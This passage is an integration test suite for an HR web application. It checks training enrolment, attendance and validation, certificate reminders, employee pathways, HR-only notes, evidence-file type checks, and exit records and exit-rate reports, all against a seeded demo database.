// Over 450 lines on purpose: the training journey end to end (catalogue, sessions on the rota,
// attendance, validation, reminders, pathways, exits, exports) on one seeded database, in order.
import type {
  ApiError,
  ExitRecord,
  ExitReport,
  Pathway,
  PathwayDashboard,
  PathwayEvidence,
  PathwayNote,
  RotaWeek,
  TrainingEnrolment,
  TrainingModule,
  TrainingSession,
} from '@relais/api-types';
import { addDays, addMonths, formatDate, isoWeekOf, zonedInstant } from '@relais/rules';
import ExcelJS from 'exceljs';
import { toZonedIso } from '../../common/instant';
import { todayIn } from '../../common/today';
import { startTestApp, TestApp } from '../../testing/test-app';
import { TrainingJobsService } from './training-jobs.service';

const TZ = 'Europe/Paris';
const at = (date: string, time: string) => toZonedIso(zonedInstant(date, time, TZ));

describe('training, pathways and exits over HTTP (capabilities 5, 6, 8)', () => {
  let t: TestApp;
  let hr: string;
  let managerSud: string;
  let managerEst: string;
  let mediator: string;
  const today = todayIn();
  // A far week with no seeded shift, so that only the test's own items are there.
  const FAR = '2031-06-02';

  beforeAll(async () => {
    t = await startTestApp();
    hr = await t.login('rh@relais.demo');
    managerSud = await t.login('manager.sud@relais.demo');
    managerEst = await t.login('manager.est@relais.demo');
    mediator = await t.login('mediateur@relais.demo');
  });

  afterAll(async () => {
    await t.close();
  });

  async function one<T = Record<string, string>>(sql: string, params: unknown[] = []): Promise<T> {
    const [row] = await t.dataSource.query(sql, params);
    return row as T;
  }

  const personId = async (lastName: string) =>
    (await one<{ id: string }>('SELECT id FROM person WHERE last_name = $1', [lastName])).id;
  const moduleId = async (code: string) =>
    (await one<{ id: string }>('SELECT id FROM training_module WHERE code = $1', [code])).id;
  const deskId = async (code: string) =>
    (await one<{ id: string }>('SELECT id FROM location WHERE code = $1', [code])).id;
  const count = async (table: string) =>
    (await one<{ n: number }>(`SELECT count(*)::int AS n FROM ${table}`)).n;

  async function newSession(
    code: string,
    date: string,
    start = '09:00',
    end = '12:30',
    capacity = 10,
    site = 'S',
  ): Promise<TrainingSession> {
    const response = await t.request<TrainingSession>('POST', '/api/training/sessions', {
      cookie: hr,
      body: {
        moduleId: await moduleId(code),
        locationId: await deskId(site),
        start: at(date, start),
        end: at(date, end),
        breakMinutes: 0,
        place: 'Salle de test',
        trainer: 'Formatrice test',
        capacity,
      },
    });
    expect(response.status).toBe(201);
    return response.body;
  }

  const enrol = (sessionId: string, person: string, cookie = hr) =>
    t.request<TrainingEnrolment & ApiError>(
      'POST',
      `/api/training/sessions/${sessionId}/enrolments`,
      {
        cookie,
        body: { personId: person },
      },
    );

  it('seeds the 16-module catalogue with prerequisites and granted qualifications', async () => {
    const response = await t.request<TrainingModule[]>('GET', '/api/training/modules', {
      cookie: mediator,
    });
    expect(response.status).toBe(200);
    expect(response.body.map((module) => module.code)).toEqual(
      Array.from({ length: 16 }, (_, i) => `T${String(i + 1).padStart(2, '0')}`),
    );
    expect(response.body.find((module) => module.code === 'T07')).toMatchObject({
      validityMonths: 24,
      grantsSkill: 'sst',
    });
    expect(response.body.find((module) => module.code === 'T03')).toMatchObject({
      prerequisiteCodes: ['T02'],
      grantsSkill: 'france_services_initial',
    });
    // Seeded sessions of the coming weeks already block their people's time on the rota.
    const [seeded] = await t.dataSource.query(
      `SELECT count(*)::int AS n FROM shift WHERE activity = 'training' AND training_session_id IS NOT NULL`,
    );
    expect(seeded.n).toBeGreaterThanOrEqual(5);
  });

  it('computes the dynamic-exit rate of the seeded leavers as computed by hand', async () => {
    const response = await t.request<ExitReport>('GET', '/api/reports/exits', { cookie: hr });
    expect(response.status).toBe(200);
    // Leavers X01–X08 of the domain brief: durable X01, X02, X07, X08 (4); transition X03 (1);
    // positive X04 (1); other X05 (1); neutralised X06 (1). Counted exits = 8 − 1 = 7; dynamic =
    // 4 + 1 + 1 = 6; rate = 6 / 7 = 0.857142…, rounded to four decimals: 0.8571.
    expect(response.body).toMatchObject({
      exits: 8,
      neutralised: 1,
      dynamic: 6,
      dynamicExitRate: 0.8571,
      byCategory: {
        EMPLOI_DURABLE: 4,
        EMPLOI_TRANSITION: 1,
        SORTIE_POSITIVE: 1,
        AUTRE_SORTIE: 1,
        NEUTRALISEE: 1,
      },
    });
    // By contract type: PEC = X01 durable, X04 positive, X06 neutralised → 2 / 2 = 1.
    expect(response.body.byContractType.find((row) => row.contractType === 'PEC')).toMatchObject({
      exits: 3,
      dynamicExitRate: 1,
    });
    // By site: NO = X05 other, X08 durable → 1 / 2 = 0.5.
    // Named for the reader, not by the site's code.
    expect(response.body.bySite.find((row) => row.siteCode === 'NO')).toMatchObject({
      siteName: 'PIMMS Médiation Paris Nord Ouest',
      dynamicExitRate: 0.5,
    });
    // A certification obtained (TP MSADS…) is counted apart, whatever the exit: 7 of the 8.
    expect(response.body).toMatchObject({ certified: 7, certificationRate: 0.875 });
    expect((await t.request('GET', '/api/reports/exits', { cookie: managerSud })).status).toBe(403);
  });

  it('enrols two mediators: the session is on the rota as working time for each', async () => {
    const session = await newSession('T12', FAR);
    const [traore, fontaine] = [await personId('Traoré'), await personId('Fontaine')];
    expect((await enrol(session.id, traore)).status).toBe(201);
    expect((await enrol(session.id, fontaine, managerSud)).status).toBe(201);
    const rota = await t.request<RotaWeek>(
      'GET',
      `/api/rota?siteId=${session.siteId}&week=${isoWeekOf(FAR)}`,
      { cookie: managerSud },
    );
    const training = rota.body.shifts.filter((shift) => shift.activity === 'training');
    expect(training.map((shift) => shift.personId).sort()).toEqual([traore, fontaine].sort());
    expect(training[0].note).toContain('T12');
    const detail = await t.request<TrainingSession>('GET', `/api/training/sessions/${session.id}`, {
      cookie: hr,
    });
    expect(detail.body.enrolled).toBe(2);
    // Changing the session's item as a shift is refused: it belongs to the enrolment.
    const patch = await t.request<ApiError>('PATCH', `/api/shifts/${training[0].id}`, {
      cookie: managerSud,
      body: { version: training[0].version, note: 'x' },
    });
    expect(patch.status).toBe(409);
    // A shift over the session is refused by the same exclusion constraint.
    const shift = await t.request<ApiError>('POST', '/api/shifts', {
      cookie: managerSud,
      body: {
        personId: traore,
        locationId: await deskId('S'),
        activity: 'accueil',
        start: at(FAR, '10:00'),
        end: at(FAR, '12:00'),
        breakMinutes: 0,
      },
    });
    expect(shift.status).toBe(409);
    expect(shift.body.message).toContain('training');
  });

  it('refuses an enrolment over a shift (409 naming it), without prerequisites or over capacity (422), writing nothing', async () => {
    const day = addDays(FAR, 1);
    const traore = await personId('Traoré');
    const created = await t.request<{ shift: { id: string } }>('POST', '/api/shifts', {
      cookie: managerSud,
      body: {
        personId: traore,
        locationId: await deskId('S'),
        activity: 'accueil',
        start: at(day, '13:30'),
        end: at(day, '17:00'),
        breakMinutes: 0,
      },
    });
    expect(created.status).toBe(201);
    const session = await newSession('T13', day, '14:00', '17:00', 1);
    const fs = await newSession('T03', addDays(FAR, 2));
    const before = [
      await count('training_enrolment'),
      await count('shift'),
      await count('audit_event'),
    ];

    const overlap = await enrol(session.id, traore);
    expect(overlap.status).toBe(409);
    expect(overlap.body.message).toMatch(
      /Chevauchement refusé : Abdoulaye Traoré a déjà le créneau accueil du .* 13:30–17:00/,
    );
    expect(overlap.body.details).toEqual([
      expect.objectContaining({ field: 'personId', shiftId: created.body.shift.id }),
    ]);

    const noPrerequisite = await enrol(fs.id, await personId('Joseph'));
    expect(noPrerequisite.status).toBe(422);
    expect(noPrerequisite.body.message).toContain('prérequis manquant pour T03 (T02');

    expect((await enrol(session.id, await personId('Fontaine'))).status).toBe(201);
    const full = await enrol(session.id, await personId('Meziane'));
    expect(full.status).toBe(422);
    expect(full.body.message).toContain('session est complète (1 places)');
    // Only Fontaine's enrolment, its rota item and their audit event were written.
    expect([
      await count('training_enrolment'),
      await count('shift'),
      await count('audit_event'),
    ]).toEqual(before.map((n) => n + 1));
    // The manager of another site cannot enrol someone of Paris Sud.
    expect((await enrol(session.id, await personId('Ribeiro'), managerEst)).status).toBe(403);
  });

  it('lets a manager enrol only their own people in sessions of their own sites; the rota owner can always withdraw', async () => {
    const day = addDays(FAR, 3);
    const session = await newSession('T12', day);
    const tran = await personId('Tran');
    const fontaine = await personId('Fontaine');
    const before = [await count('training_enrolment'), await count('shift')];

    // Paris Est's manager cannot put an item on Paris Sud's rota, even for their own person.
    const crossSite = await enrol(session.id, tran, managerEst);
    expect(crossSite.status).toBe(403);
    expect(crossSite.body.message).toContain('site dont vous n’avez pas la charge');
    // Paris Sud's manager cannot enrol someone of Paris Est: not their person.
    const notTheirs = await enrol(session.id, tran, managerSud);
    expect(notTheirs.status).toBe(403);
    expect(notTheirs.body.message).toContain('personnes des sites dont vous avez la charge');
    expect([await count('training_enrolment'), await count('shift')]).toEqual(before);

    // HR may enrol anyone anywhere: the item lands on Paris Sud's rota, whose manager sees the
    // enrolment and can withdraw it.
    const byHr = await enrol(session.id, tran);
    expect(byHr.status).toBe(201);
    const detail = await t.request<TrainingSession>('GET', `/api/training/sessions/${session.id}`, {
      cookie: managerSud,
    });
    expect(detail.body.enrolments?.map((enrolment) => enrolment.personId)).toEqual([tran]);
    const rota = await t.request<RotaWeek>(
      'GET',
      `/api/rota?siteId=${session.siteId}&week=${isoWeekOf(day)}`,
      { cookie: managerSud },
    );
    expect(rota.body.shifts.filter((shift) => shift.personId === tran)).toHaveLength(1);
    const withdrawn = await t.request('DELETE', `/api/training/enrolments/${byHr.body.id}`, {
      cookie: managerSud,
    });
    expect(withdrawn.status).toBe(204);
    expect([await count('training_enrolment'), await count('shift')]).toEqual(before);

    // The person's own manager may withdraw them too; a third site's manager may not.
    const again = await enrol(session.id, tran);
    expect(again.status).toBe(201);
    const other = await enrol(session.id, fontaine);
    expect(other.status).toBe(201);
    const foreign = await t.request<ApiError>(
      'DELETE',
      `/api/training/enrolments/${other.body.id}`,
      { cookie: managerEst },
    );
    expect(foreign.status).toBe(403);
    expect(foreign.body.message).toContain('Vous ne pouvez retirer');
    const byOwnManager = await t.request('DELETE', `/api/training/enrolments/${again.body.id}`, {
      cookie: managerEst,
    });
    expect(byOwnManager.status).toBe(204);
  });

  it('takes attendance (site manager), then HR validation grants the SST for 24 months and moves the pathway', async () => {
    const day = addDays(today, -14);
    const fontaine = await personId('Fontaine');
    const before = (await t.request<Pathway>('GET', `/api/pathways/${fontaine}`, { cookie: hr }))
      .body;
    // The SST's 14 hours take two days: the first, validated, leaves the module open.
    const firstDay = await newSession('T07', addDays(day, -1), '09:00', '17:00');
    const first = (await enrol(firstDay.id, fontaine)).body;
    for (const step of ['attendance', 'validation'])
      await t.request('POST', `/api/training/enrolments/${first.id}/${step}`, {
        cookie: hr,
        body: step === 'attendance' ? { present: true } : undefined,
      });
    expect(
      await one<{ n: number }>(
        `SELECT count(*)::int AS n FROM person_skill WHERE person_id = $1 AND skill = 'sst'`,
        [fontaine],
      ),
    ).toEqual({ n: 0 });
    const session = await newSession('T07', day, '09:00', '17:00');
    const enrolment = (await enrol(session.id, fontaine)).body;
    expect(enrolment.status).toBe('enrolled');

    const early = await t.request<ApiError>(
      'POST',
      `/api/training/enrolments/${enrolment.id}/validation`,
      {
        cookie: hr,
      },
    );
    expect(early.status).toBe(422);
    expect(early.body.message).toContain('la présence doit d’abord être constatée');
    expect(
      (
        await t.request('POST', `/api/training/enrolments/${enrolment.id}/attendance`, {
          cookie: managerEst,
          body: { present: true },
        })
      ).status,
    ).toBe(403);
    const present = await t.request<TrainingEnrolment>(
      'POST',
      `/api/training/enrolments/${enrolment.id}/attendance`,
      { cookie: managerSud, body: { present: true } },
    );
    expect(present.body.status).toBe('present');
    expect(
      (
        await t.request('POST', `/api/training/enrolments/${enrolment.id}/validation`, {
          cookie: managerSud,
        })
      ).status,
    ).toBe(403);
    const validated = await t.request<TrainingEnrolment>(
      'POST',
      `/api/training/enrolments/${enrolment.id}/validation`,
      { cookie: hr },
    );
    expect(validated.status).toBe(200);
    expect(validated.body.status).toBe('validated');

    const skill = await one<{ expires_on: string }>(
      `SELECT to_char(expires_on, 'YYYY-MM-DD') AS expires_on FROM person_skill WHERE person_id = $1 AND skill = 'sst'`,
      [fontaine],
    );
    expect(skill.expires_on).toBe(addDays(addMonths(day, 24), -1));
    const after = (await t.request<Pathway>('GET', `/api/pathways/${fontaine}`, { cookie: hr }))
      .body;
    expect(after.progress.hoursDone).toBe(before.progress.hoursDone + 14);
    expect(after.progress.modulesValidated).toBe(before.progress.modulesValidated + 1);
    expect(after.milestones.find((m) => m.code === 'P06')).toMatchObject({
      status: 'fait',
      doneOn: day,
    });
    expect(after.certificates).toContainEqual(
      expect.objectContaining({ skill: 'sst', expiresOn: skill.expires_on }),
    );
  });

  it('refuses attendance before the session day', async () => {
    const session = await newSession('T14', addDays(FAR, 3));
    const enrolment = (await enrol(session.id, await personId('Ribeiro'))).body;
    const response = await t.request<ApiError>(
      'POST',
      `/api/training/enrolments/${enrolment.id}/attendance`,
      {
        cookie: hr,
        body: { present: true },
      },
    );
    expect(response.status).toBe(422);
    expect(response.body.message).toBe('La présence se constate à partir du jour de la session.');
  });

  it('raises each certificate reminder once per threshold (daily job run twice)', async () => {
    const jobs = t.app.get(TrainingJobsService);
    const person = await personId('Traoré');
    const skill = await one<{ id: string }>(
      `INSERT INTO person_skill (organisation_id, person_id, skill, acquired_on, expires_on)
       SELECT organisation_id, id, 'aidants_connect', $2, $3 FROM person WHERE id = $1 RETURNING id`,
      [person, addDays(today, -300), addDays(today, 60)],
    );
    const reminders = async () =>
      (
        await t.dataSource.query(
          `SELECT threshold_days FROM certificate_reminder WHERE person_skill_id = $1 ORDER BY threshold_days DESC`,
          [skill.id],
        )
      ).map((row: { threshold_days: number }) => row.threshold_days);
    await jobs.runDaily(today);
    expect(await reminders()).toEqual([60]);
    const again = await jobs.runDaily(today);
    expect(again).toBe(0);
    expect(await reminders()).toEqual([60]);
    // In the inboxes, once: the person (their pathway), their site's managers and HR (the person's).
    const inbox: { person_id: string; link: string; body: string }[] = await t.dataSource.query(
      `SELECT person_id, link, body FROM notification
        WHERE kind = 'reminder' AND body LIKE 'Habilitation Aidants Connect de Abdoulaye Traoré%'`,
    );
    const links = new Map(inbox.map((row) => [row.person_id, row.link]));
    expect(inbox).toHaveLength(links.size);
    const staff: { person_id: string }[] = await t.dataSource.query(
      `SELECT ms.person_id FROM manager_site ms JOIN person p ON p.home_site_id = ms.site_id WHERE p.id = $1
       UNION SELECT person_id FROM account WHERE role IN ('hr', 'admin')`,
      [person],
    );
    expect(staff.length).toBe(3); // the director, HR and the Sud manager
    expect(Object.fromEntries(links)).toEqual({
      [person]: '/mon-parcours',
      ...Object.fromEntries(staff.map((row) => [row.person_id, `/parcours/${person}`])),
    });
    const managers = async (email: string) =>
      (await one<{ person_id: string }>(`SELECT person_id FROM account WHERE email = $1`, [email]))
        .person_id;
    expect(links.get(await managers('manager.sud@relais.demo'))).toBe(`/parcours/${person}`);
    expect(links.has(await managers('manager.est@relais.demo'))).toBe(false);
    expect(inbox[0].body).toContain('(dans 60 j)');
    // 31 days later: 29 days left, the 30-day reminder, once.
    await jobs.runDaily(addDays(today, 31));
    await jobs.runDaily(addDays(today, 31));
    expect(await reminders()).toEqual([60, 30]);
    // Visible to the person, their manager and HR.
    for (const cookie of [mediator, managerSud, hr]) {
      const pathway = await t.request<Pathway>('GET', `/api/pathways/${person}`, { cookie });
      expect(pathway.body.reminders.map((r) => r.thresholdDays)).toEqual(
        expect.arrayContaining([60, 30]),
      );
      expect(pathway.body.reminders[0].message).toContain(
        'Habilitation Aidants Connect de Abdoulaye Traoré',
      );
    }
  });

  it('lists the catalogue modules mandatory for a newcomer, each due so long after hiring', async () => {
    const person = await personId('Perrin');
    const pathway = (await t.request<Pathway>('GET', `/api/pathways/${person}`, { cookie: hr }))
      .body;
    const hire = pathway.hireDate ?? '';
    const state = (days: number) => {
      const due = addDays(hire, days);
      return [due, due < today ? 'en_retard' : 'a_venir'];
    };
    // The seed's catalogue: T01, T11 within 30 days; France Services T02, T03 within 90; T06 180.
    expect(pathway.mandatoryModules.map((m) => [m.code, m.due, m.status])).toEqual([
      ['T01', ...state(30)],
      ['T02', ...state(90)],
      ['T03', ...state(90)],
      ['T06', ...state(180)],
      ['T11', ...state(30)],
      ...(pathway.contractType === 'PRO' ? [['T16', null, 'a_venir']] : []),
    ]);
    const late = pathway.mandatoryModules.filter((m) => m.status === 'en_retard');
    const onboarding = pathway.alerts.filter((alert) => alert.rule === 'ONBOARDING_DUE');
    if (late.length) {
      expect(onboarding).toHaveLength(1);
      for (const module of late) expect(onboarding[0].message).toContain(module.code);
    } else expect(onboarding).toEqual([]);
    // A validated module is done: Traoré has done the onboarding ones.
    const veteran = (
      await t.request<Pathway>('GET', `/api/pathways/${await personId('Traoré')}`, { cookie: hr })
    ).body;
    const validated = new Set(veteran.records.map((record) => record.moduleCode));
    for (const module of veteran.mandatoryModules)
      if (validated.has(module.code)) expect(module.status).toBe('fait');
    expect(veteran.mandatoryModules.some((module) => module.status === 'fait')).toBe(true);
  });

  it('logs every read of the HR-only notes; a manager or a mediator cannot read them', async () => {
    const person = await personId('Traoré');
    const created = await t.request<PathwayNote>('POST', `/api/pathways/${person}/notes`, {
      cookie: hr,
      body: { body: 'Souhaite préparer le concours d’adjoint administratif.' },
    });
    expect(created.status).toBe(201);
    const reads = async () =>
      (
        await one<{ n: number }>(
          `SELECT count(*)::int AS n FROM audit_event WHERE action = 'pathway_note.read' AND entity_id = $1`,
          [person],
        )
      ).n;
    const before = await reads();
    const read = await t.request<PathwayNote[]>('GET', `/api/pathways/${person}/notes`, {
      cookie: hr,
    });
    expect(read.status).toBe(200);
    expect(read.body.map((note) => note.body)).toContain(
      'Souhaite préparer le concours d’adjoint administratif.',
    );
    await t.request('GET', `/api/pathways/${person}/notes`, { cookie: hr });
    expect(await reads()).toBe(before + 2);
    for (const cookie of [managerSud, mediator]) {
      expect((await t.request('GET', `/api/pathways/${person}/notes`, { cookie })).status).toBe(
        403,
      );
      expect(
        (await t.request('POST', `/api/pathways/${person}/notes`, { cookie, body: { body: 'x' } }))
          .status,
      ).toBe(403);
    }
    expect(await reads()).toBe(before + 2);
    // The notes never appear in the pathway the manager or the mediator reads.
    const pathway = await t.request('GET', `/api/pathways/${person}`, { cookie: managerSud });
    expect(JSON.stringify(pathway.body)).not.toContain('concours');
  });

  it('lets a mediator read their own pathway only', async () => {
    const mine = await t.request<Pathway>('GET', '/api/me/pathway', { cookie: mediator });
    expect(mine.status).toBe(200);
    expect(mine.body.personName).toBe('Abdoulaye Traoré');
    expect(mine.body.contractType).toBe('ADULTE_RELAIS');
    expect(mine.body.milestones.map((m) => m.code)).toContain('P08');
    const other = await t.request('GET', `/api/pathways/${await personId('Fontaine')}`, {
      cookie: mediator,
    });
    expect(other.status).toBe(403);
  });

  it('checks evidence files from their content, refuses what is not PDF/JPEG/PNG or over 5 MB', async () => {
    const mine = (await t.request<Pathway>('GET', '/api/me/pathway', { cookie: mediator })).body;
    const milestone = mine.milestones[0];
    const path = `/api/pathways/milestones/${milestone.id}/evidence`;
    const png = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
    const ok = await t.request<PathwayEvidence>('POST', path, {
      cookie: mediator,
      body: { fileName: 'diagnostic.png', contentBase64: png.toString('base64') },
    });
    expect(ok.status).toBe(201);
    expect(ok.body).toMatchObject({
      mediaType: 'image/png',
      sizeBytes: png.length,
      signedOffAt: null,
    });
    const before = await count('pathway_evidence');
    const fake = await t.request<ApiError>('POST', path, {
      cookie: mediator,
      body: {
        fileName: 'diplome.pdf',
        contentBase64: Buffer.from('MZ\x90\x00 not a pdf').toString('base64'),
      },
    });
    expect(fake.status).toBe(422);
    expect(fake.body.message).toContain('seuls les PDF, JPEG et PNG');
    const misnamed = await t.request<ApiError>('POST', path, {
      cookie: mediator,
      body: { fileName: 'photo.png', contentBase64: Buffer.from('%PDF-1.7\n').toString('base64') },
    });
    expect(misnamed.status).toBe(422);
    expect(misnamed.body.message).toContain('n’est pas ce que son nom annonce');
    const big = Buffer.alloc(5 * 1024 * 1024 + 1, 0);
    Buffer.from('%PDF-').copy(big);
    const tooBig = await t.request<ApiError>('POST', path, {
      cookie: mediator,
      body: { fileName: 'gros.pdf', contentBase64: big.toString('base64') },
    });
    expect(tooBig.status).toBe(422);
    expect(tooBig.body.message).toContain('5 Mo au plus');
    expect(await count('pathway_evidence')).toBe(before);

    const signed = await t.request<PathwayEvidence>(
      'POST',
      `/api/pathways/evidence/${ok.body.id}/sign-off`,
      {
        cookie: hr,
      },
    );
    expect(signed.body.signedOffAt).not.toBeNull();
    expect(
      (
        await t.request('POST', `/api/pathways/evidence/${ok.body.id}/sign-off`, {
          cookie: mediator,
        })
      ).status,
    ).toBe(403);
    const file = await fetch(`${t.baseUrl}/api/pathways/evidence/${ok.body.id}`, {
      headers: { cookie: hr },
    });
    expect(file.headers.get('content-type')).toBe('image/png');
    expect(Buffer.from(await file.arrayBuffer()).equals(png)).toBe(true);
  });

  it('records an exit: what followed is required, a CDD needs its length; the category is derived', async () => {
    const person = await personId('Lévy');
    const contract = await one<{ id: string }>('SELECT id FROM contract WHERE person_id = $1', [
      person,
    ]);
    const before = await count('exit_record');
    const nothing = await t.request<ApiError>('POST', '/api/exits', {
      cookie: hr,
      body: { contractId: contract.id, exitDate: today },
    });
    expect(nothing.status).toBe(422);
    expect(nothing.body.details).toEqual([{ field: 'outcome', message: 'champ obligatoire' }]);
    const incomplete = await t.request<ApiError>('POST', '/api/exits', {
      cookie: hr,
      body: { contractId: contract.id, exitDate: today, outcome: 'CDD' },
    });
    expect(incomplete.status).toBe(422);
    expect(incomplete.body.message).toBe(
      'Sortie en CDD : indiquez sa durée en mois (6 mois ou plus : emploi durable ; moins : emploi de transition).',
    );
    expect(incomplete.body.details).toEqual([
      {
        field: 'jobMonths',
        message: 'durée en mois obligatoire pour un CDD ou une mission d’intérim',
      },
    ]);
    expect(await count('exit_record')).toBe(before);

    const created = await t.request<ExitRecord>('POST', '/api/exits', {
      cookie: hr,
      body: {
        contractId: contract.id,
        exitDate: today,
        category: 'EMPLOI_TRANSITION',
        jobContractType: 'CDD',
        durationBucket: 'UNDER_SIX_MONTHS',
        employerSector: 'Bailleur social',
      },
    });
    expect(created.status).toBe(201);
    expect(created.body.followUpDue).toBe(addMonths(today, 6));
    const report = await t.request<ExitReport>('GET', '/api/reports/exits', { cookie: hr });
    // 7 dynamic out of 9 − 1 neutralised = 8.
    expect(report.body).toMatchObject({ exits: 9, dynamic: 7, dynamicExitRate: 0.875 });
    const year = Number(today.slice(0, 4));
    const byYear = await t.request<ExitReport>('GET', `/api/reports/exits?year=${year}`, {
      cookie: hr,
    });
    expect(byYear.body.year).toBe(year);
    expect(byYear.body.exits).toBe(report.body.byYear.find((row) => row.year === year)?.exits);
  });

  it('records the 6-month follow-up of an exit from its day; the report and the dashboard count it', async () => {
    const exitDate = addDays(today, -213);
    const exit = await one<{ id: string }>(
      `INSERT INTO exit_record (organisation_id, display_name, contract_type, exit_date, category,
         job_contract_type, duration_bucket, follow_up_due)
       SELECT organisation_id, 'Sortante suivie', 'PEC', $1, 'EMPLOI_TRANSITION', 'CDD', 'UNDER_SIX_MONTHS', $2
         FROM site LIMIT 1 RETURNING id`,
      [exitDate, addMonths(exitDate, 6)],
    );
    const dashboard = async () =>
      (await t.request<PathwayDashboard>('GET', '/api/reports/pathways', { cookie: hr })).body;
    expect((await dashboard()).followUpsDue.map((row) => row.exitId)).toContain(exit.id);
    const before = (await t.request<ExitReport>('GET', '/api/reports/exits', { cookie: hr })).body;

    const put = (id: string, body: Record<string, unknown>) =>
      t.request<ExitRecord & ApiError>('PUT', `/api/exits/${id}/follow-up`, { cookie: hr, body });
    const future = await put(exit.id, {
      situation: 'EMPLOI_DURABLE',
      contactedOn: addDays(today, 1),
    });
    expect(future.status).toBe(422);
    expect(future.body.details).toEqual([{ field: 'contactedOn', message: 'date future' }]);
    const unknown = await put(exit.id, { situation: 'PERDU', contactedOn: today });
    expect(unknown.status).toBe(400);
    expect(unknown.body.details).toEqual([{ field: 'situation', message: 'valeur non autorisée' }]);
    // The exit recorded today (previous test) opens its follow-up in five months.
    const recent = await one<{ id: string }>(
      `SELECT id FROM exit_record WHERE exit_date = $1 AND person_id IS NOT NULL`,
      [today],
    );
    const early = await put(recent.id, { situation: 'EMPLOI_DURABLE', contactedOn: today });
    expect(early.status).toBe(422);
    expect(early.body.message).toBe(
      `Le suivi à 6 mois se saisit à partir du ${formatDate(addMonths(addMonths(today, 6), -1))} (sortie le ${formatDate(today)}).`,
    );
    expect(
      await one<{ n: number }>(
        `SELECT count(*)::int AS n FROM exit_record WHERE follow_up_status IS NOT NULL AND id IN ($1, $2)`,
        [exit.id, recent.id],
      ),
    ).toEqual({ n: 0 });

    const done = await put(exit.id, { situation: 'EMPLOI_DURABLE', contactedOn: today });
    expect(done.status).toBe(200);
    expect(done.body).toMatchObject({ followUpSituation: 'EMPLOI_DURABLE', followUpOn: today });
    expect((await dashboard()).followUpsDue.map((row) => row.exitId)).not.toContain(exit.id);
    const after = (await t.request<ExitReport>('GET', '/api/reports/exits', { cookie: hr })).body;
    expect(after.followUps).toEqual({
      due: before.followUps.due,
      done: before.followUps.done + 1,
      stillDynamic: before.followUps.stillDynamic + 1,
    });
    expect(
      await one<{ n: number }>(
        `SELECT count(*)::int AS n FROM audit_event WHERE action = 'exit_record.follow_up' AND entity_id = $1`,
        [exit.id],
      ),
    ).toEqual({ n: 1 });
    expect((await put(exit.id, { situation: 'REFUS', contactedOn: today })).status).toBe(200);
    expect(
      (
        await t.request('PUT', `/api/exits/${exit.id}/follow-up`, {
          cookie: managerSud,
          body: { situation: 'REFUS', contactedOn: today },
        })
      ).status,
    ).toBe(403);
  });

  it('counts an exit dated in the future in the rate only from its date; the pathway shows it', async () => {
    const person = await personId('Sissoko');
    const contract = await one<{ id: string }>(
      'SELECT id FROM contract WHERE person_id = $1 ORDER BY start_date DESC LIMIT 1',
      [person],
    );
    const report = async () =>
      (await t.request<ExitReport>('GET', '/api/reports/exits', { cookie: hr })).body;
    const before = await report();
    const created = await t.request<ExitRecord>('POST', '/api/exits', {
      cookie: hr,
      body: {
        contractId: contract.id,
        exitDate: addDays(today, 20),
        category: 'EMPLOI_DURABLE',
        jobContractType: 'CDI',
        durationBucket: 'PERMANENT',
      },
    });
    expect(created.status).toBe(201);
    // Still at work for 20 days: neither an exit nor a dynamic one yet.
    expect(await report()).toMatchObject({
      exits: before.exits,
      dynamic: before.dynamic,
      dynamicExitRate: before.dynamicExitRate,
    });
    const pathway = await t.request<Pathway>('GET', `/api/pathways/${person}`, { cookie: hr });
    expect(pathway.body.exit).toEqual({
      id: created.body.id,
      exitDate: addDays(today, 20),
      category: 'EMPLOI_DURABLE',
      certificationSummary: null,
    });
    // A second record for the same contract is refused, nothing written.
    const again = await t.request<ApiError>('POST', '/api/exits', {
      cookie: hr,
      body: { contractId: contract.id, exitDate: addDays(today, 20), category: 'AUTRE_SORTIE' },
    });
    expect(again.status).toBe(409);
    expect(again.body.message).toBe('Une fiche de sortie existe déjà pour ce contrat.');
    // Its day come, it counts.
    await t.dataSource.query('UPDATE exit_record SET exit_date = $2 WHERE id = $1', [
      created.body.id,
      today,
    ]);
    expect(await report()).toMatchObject({
      exits: before.exits + 1,
      dynamic: before.dynamic + 1,
    });
  });

  it('lists a certificate expired yesterday as expired on the HR dashboard, one expiring soon as not', async () => {
    const person = await personId('Rousseau');
    const other = await personId('Garnier');
    // Only the test's own certificates (a later one would hide an earlier one, as a renewal).
    await t.dataSource.query(
      `DELETE FROM person_skill WHERE person_id IN ($1, $2) AND skill = 'sst'`,
      [person, other],
    );
    await t.dataSource.query(
      `INSERT INTO person_skill (organisation_id, person_id, skill, acquired_on, expires_on)
       SELECT organisation_id, id, 'sst', $2, $3 FROM person WHERE id = $1`,
      [person, addDays(today, -731), addDays(today, -1)],
    );
    await t.dataSource.query(
      `INSERT INTO person_skill (organisation_id, person_id, skill, acquired_on, expires_on)
       SELECT organisation_id, id, 'sst', $2, $3 FROM person WHERE id = $1`,
      [other, addDays(today, -700), addDays(today, 30)],
    );
    const dashboard = (
      await t.request<PathwayDashboard>('GET', '/api/reports/pathways', { cookie: hr })
    ).body;
    const row = (id: string) =>
      dashboard.expiringCertificates.find((c) => c.personId === id && c.skill === 'sst');
    expect(row(person)).toMatchObject({ expiresOn: addDays(today, -1), isExpired: true });
    expect(row(other)).toMatchObject({ expiresOn: addDays(today, 30), isExpired: false });
  });

  it('shows a site manager the sessions of their own sites only', async () => {
    const east = await newSession('T13', FAR, '14:00', '16:00', 5, 'E');
    const south = await newSession('T13', FAR, '09:00', '11:00', 5, 'S');
    const list = async (cookie: string) =>
      (
        await t.request<TrainingSession[]>('GET', `/api/training/sessions?from=${FAR}&to=${FAR}`, {
          cookie,
        })
      ).body.map((session) => session.id);
    expect(await list(managerSud)).toContain(south.id);
    expect(await list(managerSud)).not.toContain(east.id);
    expect(await list(managerEst)).toEqual(expect.arrayContaining([east.id]));
    expect(await list(managerEst)).not.toContain(south.id);
    expect(await list(hr)).toEqual(expect.arrayContaining([east.id, south.id]));
  });

  it('lets HR edit the modules a plan requires; progress follows, an unknown code is refused', async () => {
    const person = await personId('Ribeiro');
    const path = `/api/pathways/${person}/plan`;
    const edited = await t.request<Pathway>('PATCH', path, {
      cookie: hr,
      body: { requiredModuleCodes: ['T01', 'T11', 'T15'] },
    });
    expect(edited.status).toBe(200);
    expect(edited.body.requiredModules.map((module) => module.code)).toEqual(['T01', 'T11', 'T15']);
    // T01 (14 h) and T11 (3.5 h) are done in the seed, T15 (14 h) is not.
    expect(edited.body.progress).toEqual({
      hoursDone: 17.5,
      hoursRequired: 31.5,
      modulesValidated: 2,
      modulesRequired: 3,
    });
